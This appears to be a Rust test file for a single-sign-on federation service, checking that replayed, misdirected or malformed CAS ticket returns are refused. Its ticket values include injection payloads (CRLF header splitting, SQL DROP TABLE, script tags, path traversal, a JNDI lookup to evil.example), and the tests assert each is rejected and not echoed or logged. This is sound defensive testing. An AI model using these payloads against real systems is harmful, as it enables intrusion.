//! Returns that somebody made up: of another browser, to another institution, with a ticket that is none.

use crate::support::house::WIKI;
use crate::support::journey::{by, user};
use crate::support::{Browser, FakeCas, House, raw};

/// A house with two institutions, and a browser that left for the first.
struct Away {
    house: House,
    north: FakeCas,
    south: FakeCas,
    browser: Browser,
    callback: String,
    ticket: String,
}

async fn away() -> Away {
    let (north, south) = (FakeCas::v3().knows("ada").start().await, FakeCas::v3().knows("eve").start().await);
    let house = House::with()
        .provider(&north.entry("north.example", "North"))
        .provider(&south.entry("south.example", "South"))
        .start()
        .await;
    let browser = Browser::at(&house);
    let page = browser.get(&by(WIKI, "north.example")).await;
    let back = north.lets_in(page.location());
    let (callback, ticket) = back.rsplit_once("&ticket=").unwrap();
    let (callback, ticket) = (callback.to_owned(), ticket.to_owned());
    Away { house, north, south, browser, callback, ticket }
}

/// What becomes of a sign-in that was not used up.
async fn still_good(away: &Away) {
    let page = away.browser.get(&format!("{}&ticket={}", away.callback, away.ticket)).await;
    let ticket = away.browser.follow_home(page).await.ticket();
    assert_eq!(user(&away.house.service_validate(&ticket, WIKI).await), "ada@north.example");
}

#[tokio::test]
async fn to_the_wrong_place() {
    let away = away().await;
    let Away { callback, ticket, house, .. } = &away;
    let other = |suffix: &str| callback.replace("north.example?", &format!("{suffix}?"));
    let id = callback.split_once("h=").unwrap().1;
    for (name, browser, target, told) in [
        (
            "of another browser",
            &Browser::at(house),
            format!("{callback}&ticket={ticket}"),
            (400, "upstream.state_lost"),
        ),
        (
            "to another institution",
            &away.browser,
            format!("{}&ticket={ticket}", other("south.example")),
            (400, "upstream.state_lost"),
        ),
        (
            "to nobody",
            &away.browser,
            format!("{}&ticket={ticket}", other("west.example")),
            (404, "provider.unknown"),
        ),
        (
            "without a sign-in",
            &away.browser,
            format!("federate/north.example?ticket={ticket}"),
            (400, "upstream.state_lost"),
        ),
        (
            "of two sign-ins",
            &away.browser,
            format!("{callback}&h={id}&ticket={ticket}"),
            (400, "request.malformed"),
        ),
        (
            "with two tickets",
            &away.browser,
            format!("{callback}&ticket={ticket}&ticket=ST-2"),
            (400, "request.malformed"),
        ),
        (
            "with a ticket that is no text",
            &away.browser,
            format!("{callback}&ticket=%FF%FE"),
            (400, "request.malformed"),
        ),
    ] {
        let page = browser.get(&target).await;
        assert_eq!((page.status, page.error_code().as_str()), told, "{name}: {}", page.text());
        assert_eq!(page.location(), "", "{name}");
        assert!(browser.is_nobody().await, "{name}");
    }
    assert!(away.north.validations().is_empty() && away.south.validations().is_empty(), "nobody was asked");
    still_good(&away).await;
    // Replayed by the same browser once it has signed out: lost, and nobody is asked again.
    away.browser.get("logout").await;
    let page = away.browser.get(&format!("{callback}&ticket={ticket}")).await;
    assert_eq!((page.status, page.error_code().as_str()), (400, "upstream.state_lost"));
    assert_eq!(away.north.validations().len(), 1);
    assert!(away.browser.is_nobody().await);
}

#[tokio::test]
async fn without_a_ticket_that_could_be_one() {
    for (name, more) in [
        ("none", String::new()),
        ("an empty one", "&ticket=".to_owned()),
        ("one over the limit", format!("&ticket={}", "x".repeat(1025))),
        ("a blank", "&ticket=ST-1%202".to_owned()),
        ("a plus sign that was not encoded", "&ticket=ST-1+2".to_owned()),
        ("a line", "&ticket=ST-1%0d%0aX-Evil:%201%0d%0a%0d%0aGET%20/evil%20HTTP/1.1".to_owned()),
        ("a NUL", "&ticket=ST-1%00".to_owned()),
        ("a DEL", "&ticket=ST-1%7f".to_owned()),
        ("letters of elsewhere", "&ticket=ST-%c3%a9".to_owned()),
        ("what nobody sees", "&ticket=ST-1%e2%80%ae".to_owned()),
        ("half a statement", "&ticket='%3b%20DROP%20TABLE%20session%3b%20--".to_owned()),
    ] {
        let away = away().await;
        let page = away.browser.get(&format!("{}{more}", away.callback)).await;
        assert_eq!(page.status, 303, "{name}: {}", page.text());
        assert!(page.location().contains("choose=1"), "{name}: {}", page.location());
        let choice = away.browser.follow(&page).await;
        assert_eq!((choice.status, choice.location()), (200, ""), "{name}: no loop");
        assert!(away.north.validations().is_empty() && away.browser.is_nobody().await, "{name}");
    }
    // A megabyte is not even read.
    let away = away().await;
    let target = format!("/cas/federate/north.example?h=x&ticket={}", "x".repeat(1 << 20));
    let status = raw::status(&raw::get(away.house.address, target.as_bytes(), "").await);
    assert!(status == 0 || (400..500).contains(&status), "{status}");
    assert!(away.north.validations().is_empty() && away.south.validations().is_empty());
}

/// A ticket is a value, whatever stands in it: it adds nothing to our question.
#[tokio::test]
async fn with_a_ticket_of_other_things() {
    for ticket in [
        "ST-1&service=https://evil.example/&renew=false",
        "ST-1#fragment",
        "ST-1%26ticket%3DST-2",
        "ST-1+2",
        "ST-1.2_3~4@5",
        "ST-1?ticket=ST-2",
        "../../login?ticket=ST-1",
        "<script>alert(1)</script>",
        "';DROP/**/TABLE/**/session;--",
        "${jndi:ldap://evil.example/}",
    ] {
        let away = away().await;
        let encoded: String = url::form_urlencoded::byte_serialize(ticket.as_bytes()).collect();
        let page = away.browser.get(&format!("{}&ticket={encoded}", away.callback)).await;
        assert_eq!((page.status, page.error_code().as_str()), (502, "upstream.ticket_rejected"), "{ticket}");
        assert!(!page.body.contains("evil") && !page.body.contains("<script>alert"), "{ticket}");
        let asked = away.north.validations();
        assert_eq!(asked.len(), 1, "{ticket}");
        assert_eq!(asked[0].names(), ["service", "ticket"], "{ticket}");
        assert_eq!(asked[0].param("ticket").as_deref(), Some(ticket));
        assert_eq!(asked[0].param("service").as_deref(), Some(away.callback.as_str()));
        assert!(!asked[0].head.to_lowercase().contains("evil"), "{ticket}");
        assert!(!away.house.logs().contains("jndi:ldap"), "{ticket}");
        assert!(away.browser.is_nobody().await);
    }
}
